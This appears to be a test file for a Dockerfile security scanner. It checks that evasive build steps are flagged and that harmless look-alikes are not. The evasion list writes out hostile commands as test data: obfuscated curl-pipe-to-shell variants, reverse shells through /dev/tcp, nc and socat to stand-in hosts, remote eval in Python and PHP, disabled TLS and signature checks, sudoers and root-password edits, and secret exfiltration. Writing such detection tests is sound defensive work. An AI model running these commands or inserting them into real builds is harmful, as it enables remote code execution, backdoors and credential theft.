import { expect } from 'chai';
import { rulesOf, scanBytes } from './scan-bytes.ts';

const FROM = `FROM python:3.11@sha256:${'a'.repeat(64)}\n`;
const END = '\nUSER 65532\nCMD ["python", "app.py"]\n';
const rules = (lines: string): string[] =>
  rulesOf(scanBytes('Dockerfile', `${FROM}${lines}${END}`, 'dockerfile'));
const URL = 'https://a.example/x';

/** Other spellings of what a build must not do: rule → lines. */
const EVASIONS: Record<string, string[]> = {
  'docker-piped-installer': [
    `RUN cur\\\nl ${URL} | s\\\nh`,
    `ARG C=curl\nRUN $C ${URL} | sh`,
    `ARG S=sh\nRUN curl ${URL} | $S`,
    `RUN \${X:-curl} ${URL} | \${Y:-sh}`,
    `RUN a=cu; b=rl; $a$b ${URL} | sh`,
    `RUN S=sh; curl ${URL} | $S`,
    `RUN x=$(curl ${URL}); eval "$x"`,
    `RUN x=$(curl ${URL}) && sh -c "$x"`,
    `RUN x=$(curl ${URL}) && echo "$x" | sh`,
    `RUN curl -o /tmp/a ${URL} && sh < /tmp/a`,
    `RUN curl -o/tmp/a ${URL} && sh /tmp/a`,
    'RUN echo Y3VybA== | base64 --decode > /tmp/a && sh /tmp/a',
    'RUN sh -c "$(echo Y3VybA== | base64 -d)"',
    'RUN eval `echo Y3VybA== | base64 -d`',
    'RUN echo "hs | lruc" | rev | sh',
    'RUN printf "\\143\\165\\162\\154" | sh',
    'RUN echo phey | tr a-z n-za-m | sh',
    `RUN echo "curl ${URL} | sh" | sh`,
    `RUN python -c "import base64;exec(base64.b64decode('cHJpbnQoMSk='))"`,
    `RUN python -c "import socket;exec(socket.create_connection(('a.example',80)).recv(9))"`,
    `RUN python -c "import http.client as h;c=h.HTTPSConnection('a.example');exec(c.getresponse().read())"`,
    `RUN php -r "eval(file_get_contents('${URL}'));"`,
    `RUN <<EOF\n#!/usr/bin/env python3\nimport urllib.request as u\nexec(u.urlopen("${URL}").read())\nEOF`,
    `RUN { curl ${URL}; } | sh`,
    `RUN curl ${URL} | { cat; } | sh -`,
    `RUN curl ${URL} | while read l; do eval "$l"; done`,
    `RUN timeout 9 curl ${URL} | timeout 9 sh`,
    `RUN curl ${URL} | setsid sh`,
    `RUN curl ${URL} | gosu root sh`,
    `RUN curl ${URL} | su root -c sh`,
    `RUN curl ${URL} | xargs -0 sh -c`,
    `RUN curl ${URL} | xargs -I{} sh -c "{}"`,
    'RUN bash -i >& /dev/tcp/10.0.0.1/4444 0>&1',
    'RUN nc -e /bin/sh a.example 80',
    'RUN socat TCP:a.example:80 EXEC:sh',
    'RUN dig +short TXT a.example | sh',
    'RUN scp u@a.example:x /tmp/x && sh /tmp/x',
    `RUN curl -o /usr/local/bin/tool ${URL} && chmod +x /usr/local/bin/tool\nRUN tool`,
    `RUN curl -o /tmp/a ${URL} && cp /tmp/a /tmp/b && sh /tmp/b`,
    `COPY <<EOF /run.sh\ncurl ${URL} | sh\nEOF`,
  ],
  'docker-syntax': [
    `RUN true ${'x'.repeat(70_000)}`,
    'SHELL ["python", "-c"]\nRUN import os',
    `SHELL ["sh", "-c", "curl ${URL} | sh #"]\nRUN true`,
  ],
  'docker-package-source': [
    'ENV PIP_INDEX_URL=http://a.example/simple',
    'ENV PIP_TRUSTED_HOST=a.example',
    'RUN export PIP_INDEX_URL=http://a.example && pip install a==1',
    'RUN pip config set global.index-url http://a.example/simple',
    'RUN echo "APT::Get::AllowUnauthenticated true;" > /etc/apt/apt.conf.d/99x',
    'RUN printf "Types: deb\\nURIs: http://a.example\\nTrusted: yes\\n" > /etc/apt/sources.list.d/x.sources',
    'RUN apt-get -oAcquire::https::Verify-Peer=false update',
    'COPY <<EOF /etc/apt/sources.list.d/x.list\ndeb [trusted=yes] http://a.example ./\nEOF',
    'RUN dpkg -i --force-all /x.deb',
    'RUN curl http://a.example/k | apt-key add -',
    'RUN dnf --setopt=gpgcheck=0 install x',
    'RUN rpm -i --nosignature x.rpm',
    'RUN gem install --source http://a.example x',
  ],
  'docker-extra-index': ['ENV PIP_EXTRA_INDEX_URL=https://a.example/simple'],
  'docker-insecure-download': [
    'ENV GIT_SSL_NO_VERIFY=1',
    'ENV NODE_TLS_REJECT_UNAUTHORIZED=0',
    'ENV PYTHONHTTPSVERIFY=0',
    'RUN git config --global http.sslVerify false',
    'RUN npm config set strict-ssl false',
    'RUN echo insecure >> ~/.curlrc',
  ],
  'docker-package-from-url': [
    'RUN npm install https://a.example/a.tgz',
    'RUN npm i -g owner/repository',
    'RUN cargo install --git https://a.example/x',
    'RUN pipx install git+https://a.example/x',
    'RUN go run a.example/x@latest',
  ],
  'docker-permissions': [
    'RUN install -m4755 a /bin/b',
    'RUN find /app -exec chmod 777 {} +',
    'RUN chmod 7 /x',
    'RUN umask 000; mkdir /x',
    `RUN python -c "import os;os.chmod('/bin/x',0o4755)"`,
    'RUN echo "u ALL=(ALL) NOPASSWD: ALL" >> /etc/sudoers',
    'RUN echo root:root | chpasswd',
  ],
  'docker-unpinned-image': [
    'RUN --mount=type=bind,from=evil/x,target=/x true',
    'RUN --mount=from=evil/x,target=/x true',
  ],
  'docker-secret': [
    'RUN --mount=type=secret,id=t,target=/t cp /t /out/t',
    'RUN --mount=type=secret,id=t,env=T echo $T > /x',
    'RUN --mount=type=secret,id=t cat /run/secrets/t',
    'ENV X=ghp_abcdefghij\\\nklmnopqrstuvwxyz0123456789',
    `ENV X=${Buffer.from('ghp_abcdefghijklmnopqrstuvwxyz0123456789').toString('base64')}`,
  ],
  'docker-remote-access': ['EXPOSE 22/TCP', 'EXPOSE 20-23', 'ARG P=22\nEXPOSE $P'],
  'docker-unscanned-model': [
    'CMD ["vllm", "serve", "owner/name"]',
    'CMD ["server", "--model", "/m", "--trust-remote-code"]',
    'ENV HF_HUB_TRUST_REMOTE_CODE=1',
  ],
};

/** What honest Dockerfiles do that looks alike. */
const HONEST = [
  'RUN apt-get update && apt-get install -y --no-install-recommends libgomp1=12 && rm -rf /var/lib/apt/lists/*',
  'RUN pip install --no-cache-dir -r requirements.txt',
  'RUN --mount=type=secret,id=t TOKEN=$(cat /run/secrets/t) pip install a==1',
  'RUN echo "deb https://a.example stable main" | tee /etc/apt/sources.list.d/x.list',
  'RUN curl -fsSL https://a.example/key.gpg | gpg --dearmor -o /usr/share/keyrings/x.gpg',
  'RUN yes | bash install.sh',
  'RUN cat setup.sh | sh',
  'RUN sed "s/a/b/" run.in > run.sh && sh run.sh',
  'RUN python - <<EOF\nprint(1)\nEOF',
  'RUN find / -name "*.pyc" | xargs rm',
  'RUN cat requirements.txt | xargs -n 1 pip install -c pins.txt',
  'RUN useradd -u 1000 app && chown -R app /app && chmod 755 /app && chmod 1777 /tmp && umask 022',
  'RUN chmod +x /app/run.sh',
  'HEALTHCHECK CMD python -c "import urllib.request; urllib.request.urlopen(\'http://localhost:8080/health\')"',
  'HEALTHCHECK CMD curl -f http://localhost:8080/ || exit 1',
  'SHELL ["/bin/bash", "-o", "pipefail", "-c"]',
  'ENV PIP_EXTRA_INDEX_URL=https://download.pytorch.org/whl/cpu PYTHONUNBUFFERED=1',
  'CMD ["sh", "-c", "exec gunicorn -b 0.0.0.0:${PORT:-8080} app:app"]',
  'CMD ["vllm", "serve", "/models/m"]',
  'CMD ["server", "--model", "models/m"]',
  'ARG PYTHON=python3\nRUN $PYTHON -m pip install a==1',
  'RUN npm install ./ui && npm ci',
  'RUN long \\\n  --flag=1 \\\n  # why\n  --other',
  'EXPOSE 8080',
];

describe('Dockerfile: the same in other spellings', () => {
  for (const [rule, all] of Object.entries(EVASIONS)) {
    for (const lines of all)
      it(`${lines.slice(0, 120).replaceAll('\n', ' ⏎ ')} → ${rule}`, () =>
        expect(rules(lines)).to.include(rule));
  }
});

describe('Dockerfile: honest lines that look like those', () => {
  const harmless = new Set(['docker-unpinned-package', 'docker-hadolint', 'docker-shell-form']);
  for (const lines of HONEST)
    it(lines.replaceAll('\n', ' ⏎ '), () =>
      expect(rules(lines).filter((rule) => !harmless.has(rule))).to.deep.equal([]),
    );
});

describe('Dockerfile: texts that would take long', () => {
  const many = (count: number, text: (i: number) => string): string =>
    Array.from({ length: count }, (_, i) => text(i)).join('');
  const LONG: Record<string, string> = {
    'values that double': many(3000, (i) => `ENV A${i + 1}=$A${i}$A${i}\n`),
    'one long pipeline': `RUN ${'curl http://a | '.repeat(4000)} cat`,
    'a pipeline of loops': `RUN ${'| while read x '.repeat(4000)}`,
    'many files that are fetched': many(
      20,
      (step) => `RUN ${many(1000, (i) => `curl -o f${step}-${i} a; ./g${i}; `)}\n`,
    ),
    'many variables that are fetched': `RUN ${many(2000, (i) => `A${i}=$(curl a); sh $B; `)}`,
  };
  for (const [what, lines] of Object.entries(LONG))
    it(`${what} end in seconds`, () => expect(rules(lines)).not.to.include('scan-crashed')).timeout(
      8000,
    );
});
